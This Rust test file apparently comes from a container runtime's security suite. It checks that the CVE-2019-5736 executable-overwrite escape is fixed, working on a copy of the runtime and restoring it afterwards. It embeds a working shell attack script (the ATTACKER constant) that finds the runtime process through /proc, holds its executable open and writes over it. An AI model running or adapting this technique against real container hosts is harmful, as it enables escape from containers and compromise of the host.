//! The runtime's own executable, seen from inside.

use std::fs;
use std::path::Path;
use std::process::Command;

use crate::common::{Config, Runtime, Sandbox, on_host, wait_until};
use crate::judge::{Bad, Outcome, must_hold};

on_host![cve_2019_5736_the_executable_is_overwritten];

/// `exec` of `/proc/self/exe` runs the runtime's executable in the container;
/// there its `/proc/PID/exe` is opened, the process ended so that the file is no
/// longer busy, and the file overwritten.
fn cve_2019_5736_the_executable_is_overwritten(sandbox: &Sandbox) {
    must_hold(sandbox, &[Bad::Tag("v1.0.0-rc6")], |sandbox| {
        // Never the installed one.
        let original = &sandbox.runtime().path;
        let name = original.file_name().unwrap().to_string_lossy();
        let copy = sandbox.dir().join(format!("{name}-copy"));
        fs::copy(original, &copy).unwrap();
        let own = sandbox.beside(Runtime::at(copy.clone()));
        let (said, intact) = overwrite(&own, original);
        let fault = if intact {
            said.contains("written")
                .then(|| format!("something was written to: {said}"))
        } else {
            Some("the executable was overwritten".to_owned())
        };
        Outcome::from_fault(fault)
    });
}

/// Returns what the attacker says, and whether the executable is what it was. It is the container's first process: a second
/// `exec` would keep the executable busy.
fn overwrite(sandbox: &Sandbox, original: &Path) -> (String, bool) {
    let capabilities = ["CAP_DAC_OVERRIDE", "CAP_SYS_PTRACE", "CAP_KILL"];
    let bundle = sandbox.bundle(&Config::shell(ATTACKER).capabilities(&capabilities));
    let root = bundle.rootfs();
    copy_libraries(original, &root);
    // The runtime inside waits here for a reader, and so stays.
    nix::unistd::mkfifo(&root.join("wait"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let container = sandbox.run_detached(&bundle);
    let inside = container
        .call("exec", &[])
        .args([
            "/proc/self/exe",
            "--log",
            "/wait",
            "--root",
            "/tmp/none",
            "list",
        ])
        .output();
    wait_until("the attacker has ended", || {
        container.stdout().contains("end\n")
    });
    let said = container.stdout();
    eprintln!("attacker: {said}inside: {inside}");
    let copy = &sandbox.runtime().path;
    let intact = fs::read(copy).unwrap() == fs::read(original).unwrap();
    if !intact {
        fs::copy(original, copy).unwrap();
    }
    container.delete_force();
    (said, intact)
}

const ATTACKER: &str = r#"
attack() {
    tries=0
    while [ $tries -lt 1000 ]; do
        for process in /proc/[0-9]*; do
            case $(readlink $process/exe) in
                ''|*busybox*) ;;
                *) grep -q wait $process/cmdline && target=$process && break 2 ;;
            esac
        done
        tries=$((tries + 1))
        usleep 5000
    done
    [ -n "$target" ] || { echo nobody; return; }
    exec 9<$target/exe || { echo refused; kill -9 ${target#/proc/}; return; }
    kill -9 ${target#/proc/}
    tries=0
    while [ $tries -lt 200 ]; do
        (printf BROKEN >/proc/self/fd/9) 2>/dev/null && { echo written; return; }
        tries=$((tries + 1))
        usleep 5000
    done
    echo denied
}
attack
echo end
exec sleep 1000
"#;

/// What a dynamically linked runtime needs, as any image would have it.
fn copy_libraries(executable: &Path, root: &Path) {
    let out = Command::new("ldd").arg(executable).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    for library in text.split_whitespace().filter(|word| word.starts_with('/')) {
        let target = root.join(library.trim_start_matches('/'));
        fs::create_dir_all(target.parent().unwrap()).unwrap();
        fs::copy(library, target).unwrap();
    }
}
